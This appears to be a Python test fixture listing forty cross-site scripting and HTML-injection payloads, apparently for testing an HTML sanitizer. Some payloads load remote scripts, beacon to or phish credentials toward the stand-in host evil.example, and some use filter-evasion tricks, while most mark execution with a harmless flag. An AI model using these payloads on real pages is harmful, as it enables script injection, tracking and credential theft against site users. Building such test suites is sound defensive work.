"""Forty strings that try to come alive in a page, or to call out of it."""

from __future__ import annotations

HOSTILE = (
    # Scripts
    "<script>window.hacked=1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "</script><script>window.hacked=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
    "<svg><script href=https://evil.example/x.js /></svg>",
    # Event handlers
    "<img src=x onerror=window.hacked=1>",
    "<img src='https://evil.example/p.png' onload='window.hacked=1'>",
    '"><svg onload=window.hacked=1>',
    "<body onload=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "' onmouseover='window.hacked=1' x='",
    '" autofocus onfocus="window.hacked=1" x="',
    "<video><source onerror=window.hacked=1></video>",
    "<marquee onstart=window.hacked=1>go</marquee>",
    # Links
    "<a href='javascript:window.hacked=1'>the minutes</a>",
    "[the minutes](javascript:window.hacked=1)",
    "javascript:window.hacked=1//",
    "<a href=https://evil.example/ target=_blank ping=https://evil.example/ping>more</a>",
    "data:text/html,<script>window.hacked=1</script>",
    # Remote images and resources
    "<img src=https://evil.example/pixel.png>",
    "![chart](https://evil.example/chart.png)",
    "<picture><source srcset=https://evil.example/a.png><img></picture>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/next>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    # Styles
    "<style>body{background:url(https://evil.example/bg.png)}</style>",
    "<div style='background:url(https://evil.example/bg.png)'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    # Forms and overlays
    "<form action=https://evil.example/><button>Sign in again</button></form>",
    "<input type=password name=p><button formaction=https://evil.example/>Go</button>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>Session ended</div>",
    "<dialog open><a href=https://evil.example/>Sign in</a></dialog>",
    # Markdown, templates and encodings
    "$\\href{https://evil.example/}{x}$ ```html <img src=https://evil.example/c.png> ```",
    "${window.hacked=1}{{constructor.constructor('window.hacked=1')()}}",
    "&lt;img src=https://evil.example/e.png onerror=window.hacked=1&gt;",
)
